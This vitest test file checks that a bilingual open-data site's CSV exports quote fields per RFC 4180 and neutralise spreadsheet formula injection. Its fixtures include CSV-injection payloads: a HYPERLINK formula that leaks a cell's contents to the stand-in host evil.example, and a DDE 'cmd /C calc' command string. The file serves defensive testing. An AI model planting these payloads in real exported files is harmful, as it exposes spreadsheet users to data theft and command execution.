import { describe, expect, it } from 'vitest';
import { chartCsv } from '../../src/charts/chart-data';
import { resolveChart } from '../../src/charts/model';
import { fillFallbacks } from '../../src/i18n/locales';
import { csvField, toCsv } from '../../src/lib/csv';
import { LOCALES } from '../../src/lib/locale';
import { excelCsv, figuresCsv, initiativesOf } from '../../src/lib/open-data';
import { placesCsv, timelineCsv } from '../../src/lib/open-data-lists';
import { parseCsv } from '../../harness/csv';
import { oneStory, statedFigure } from '../../harness/one-story';

describe('csvField (RFC 4180)', () => {
  it.each([
    ['plain', 'plain'],
    ['', ''],
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ['two\nlines', '"two\nlines"'],
    ['贵州贵阳：“干”在关键处', '贵州贵阳：“干”在关键处'], // curly quotes are not CSV quotes
  ])('%j → %j', (value, field) => {
    expect(csvField(value)).toBe(field);
  });

  it('round-trips commas, double quotes, line breaks, Chinese and empty fields through another parser', () => {
    const rows = [
      ['figure_id', 'label_zh', 'label_en'],
      ['quote', '“引号”', 'the "rest", derived'],
      ['multi', '第一行\n第二行', 'line one\r\nline two'],
      ['empty', '', ''],
    ];
    expect(parseCsv(toCsv(rows, { bom: true }))).toEqual(rows);
    expect(toCsv([['a'], ['b']], { bom: true })).toBe('\uFEFFa\r\nb\r\n');
    expect(toCsv([['a'], ['b']], { bom: false })).toBe('a\r\nb\r\n');
  });
});

describe('text a spreadsheet would run as a formula (OWASP, CSV injection)', () => {
  it.each([
    ['=HYPERLINK("https://evil.example/?x="&A1,"Click")', `"'=HYPERLINK(""https://evil.example/?x=""&A1,""Click"")"`],
    ['+SUM(1,2)', `"'+SUM(1,2)"`],
    ['-2+3', `"'-2+3"`],
    ['@SUM(A1)', `"'@SUM(A1)"`],
    ['\t=1+1', `"'\t=1+1"`],
    ['\r=1+1', `"'\r=1+1"`],
  ])('%j is written as text, after an apostrophe, quoted', (text, field) => {
    expect(csvField(text)).toBe(field);
    expect(parseCsv(`${csvField(text)}\r\n`)).toEqual([[`'${text}`]]);
  });

  it('leaves numbers as numbers, negative ones included, and text that only contains the characters', () => {
    expect(toCsv([[-7, 48.2, 0, 2e21, 'a-b', 'x=y', 'A+', 'e@mail']], { bom: false })).toBe(
      '-7,48.2,0,2000000000000000000000,a-b,x=y,A+,e@mail\r\n',
    );
  });
});

/** Text that spreadsheets would run, in every field an editor writes that reaches a CSV file. */
const HOSTILE = {
  label: '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")',
  labelZh: '+SUM(1,2)',
  title: "@SUM(1+1)*cmd|' /C calc'!A0",
  place: '-2+3',
  source: '\t=1+1',
};

/** A story whose editors wrote formulas, with a fall (a negative number) among its figures. */
const hostileCatalog = () =>
  oneStory({
    data: {
      figures: [
        statedFigure('spaces', 3840, 'space', { zh: HOSTILE.labelZh, en: HOSTILE.label }),
        statedFigure('change', -7, 'yuan', { zh: '变化', en: 'change' }),
      ],
      charts: [{ id: 'both', kind: 'key-figures', figures: ['spaces', 'change'], title: { zh: '图', en: 'Chart' } }],
    },
    title: HOSTILE.title,
    source: { title: HOSTILE.source },
    place: { zh: HOSTILE.place, en: HOSTILE.place },
  });

/** The rows of a CSV file after its header, each as its cells by column name. */
function records(text: string): Record<string, string>[] {
  const [header, ...rows] = parseCsv(text);
  return rows.map((row) => Object.fromEntries(header!.map((name, index) => [name, row[index]!])));
}

/** Every CSV file the site writes, from the hostile catalog. */
function siteCsvs(): Record<string, string> {
  const catalog = hostileCatalog();
  const story = catalog.stories[0]!;
  const figures = new Map(story.figures.map((figure) => [figure.id, figure]));
  const sources = new Map(story.sources.map((source) => [source.id, source]));
  const figures_csv = figuresCsv(initiativesOf(catalog));
  return {
    'figures.csv': figures_csv,
    'figures-excel.csv': excelCsv(figures_csv),
    'charts/car-parks/both.csv': chartCsv(
      resolveChart(story.data.charts[0]!, figures, 'data.yaml'),
      sources,
      fillFallbacks({ zh: '其余', en: 'the rest' }),
    ),
    'places.csv': placesCsv(catalog),
    'timeline.csv': timelineCsv(catalog),
  };
}

describe('every CSV file the site writes', () => {
  const files = Object.entries(siteCsvs());

  it.each(files)('%s: no cell a spreadsheet would run, and only such cells are changed', (_name, text) => {
    const cells = parseCsv(text).flat();
    // A number, negative or not, is data; anything else starting so would be a formula.
    const formulas = cells.filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^-\d+(\.\d+)?$/.test(cell));
    expect(formulas).toEqual([]);
    // Only what would run is changed: the apostrophe stands before a formula's first character.
    const neutralised = cells.filter((cell) => cell.startsWith("'"));
    expect(neutralised.length).toBeGreaterThan(0);
    for (const cell of neutralised) expect(cell).toMatch(/^'[=+\-@\t\r]/);
  });

  it('keeps a label whole, and a fall a negative number, in figures.csv, its Excel copy and the chart CSV', () => {
    for (const name of ['figures.csv', 'figures-excel.csv']) {
      const [header, ...rows] = parseCsv(siteCsvs()[name]!);
      const column = (row: string[], field: string) => row[header!.indexOf(field)];
      expect(rows.map((row) => [column(row, 'label_en'), column(row, 'label_zh'), column(row, 'value')])).toEqual([
        [`'${HOSTILE.label}`, `'${HOSTILE.labelZh}`, '3840'],
        ['change', '变化', '-7'],
      ]);
      expect(rows.map((row) => column(row, 'source_title'))).toEqual([`'${HOSTILE.source}`, `'${HOSTILE.source}`]);
    }
    const chart = records(siteCsvs()['charts/car-parks/both.csv']!);
    expect(chart.map((row) => [row.label_en, row.label_zh, row.value])).toEqual([
      [`'${HOSTILE.label}`, `'${HOSTILE.labelZh}`, '3840'],
      ['change', '变化', '-7'],
    ]);
  });

  it('neutralises place names in places.csv and story titles in timeline.csv', () => {
    const names = (prefix: string, text: string) =>
      Object.fromEntries(LOCALES.map((locale) => [`${prefix}_${locale}`, text]));
    expect(records(siteCsvs()['places.csv']!)[0]).toEqual({
      place: '520100',
      code: '',
      kind: 'city',
      ...names('name', `'${HOSTILE.place}`),
      stories: '1',
    });
    expect(records(siteCsvs()['timeline.csv']!)[0]).toEqual({
      story: 'car-parks',
      ...names('title', `'${HOSTILE.title}`),
      period: '2023',
      start: '2023',
      end: '2023',
    });
  });
});
